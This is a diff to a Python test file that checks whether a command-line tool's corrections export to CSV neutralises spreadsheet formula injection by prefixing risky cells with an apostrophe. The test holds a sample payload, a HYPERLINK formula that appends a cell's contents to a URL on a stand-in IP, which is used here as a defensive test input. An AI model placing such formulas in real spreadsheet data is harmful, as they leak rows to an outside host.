@@ -261,13 +261,16 @@ def test_promotions_are_in_the_audit_log(ws: Path, cli) -> None:  # type: ignore
     assert after == before
 
 
+EVIDENCE = '=HYPERLINK("http://198.51.100.9/?d="&A2,"photo 12")'
+
+
 def test_corrections_are_exported_for_training(ws: Path, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
     home = ["--home", str(ws / "ws")]
     hh = pl.read_parquet(ws / "data" / "households.parquet")
     h = hh["household_id"][3]
     code, _, err = cli(
         "overrides", "add", "--kind", "correction", "--household", h, "--field",
-        "hazard_exposure", "--value", "flood", "--evidence", "photo 12", "--reason", "flooded",
+        "hazard_exposure", "--value", "flood", "--evidence", EVIDENCE, "--reason", "-flooded",
         "--data", str(ws / "data"), *home,
     )  # fmt: skip
     assert code == 0, err
@@ -275,10 +278,18 @@ def test_corrections_are_exported_for_training(ws: Path, cli, tmp_path: Path) ->
     code, _, err = cli("overrides", "export-corrections", "--out", str(out_file), *home)
     assert code == 0, err
     rows = pl.read_csv(out_file).filter(pl.col("household_id") == h)
-    assert rows.select("field", "value", "evidence").row(0) == (
+    # A supervisor's text that Excel or WPS would run as a formula (a link sending the row
+    # away when clicked) is marked ' and opens as text; it was written as typed.
+    assert rows.select("field", "value", "evidence", "reason").row(0) == (
         "hazard_exposure",
         "flood",
-        "photo 12",
+        f"'{EVIDENCE}",
+        "'-flooded",
+    )
+    assert not any(
+        cell.startswith(("=", "+", "-", "@"))
+        for line in out_file.read_text(encoding="utf-8-sig").splitlines()
+        for cell in line.split(",")
     )
     # With its status and expiry, and read back as train --corrections reads it.
     assert rows.select("status", "expires_on").row(0) == ("active", None)
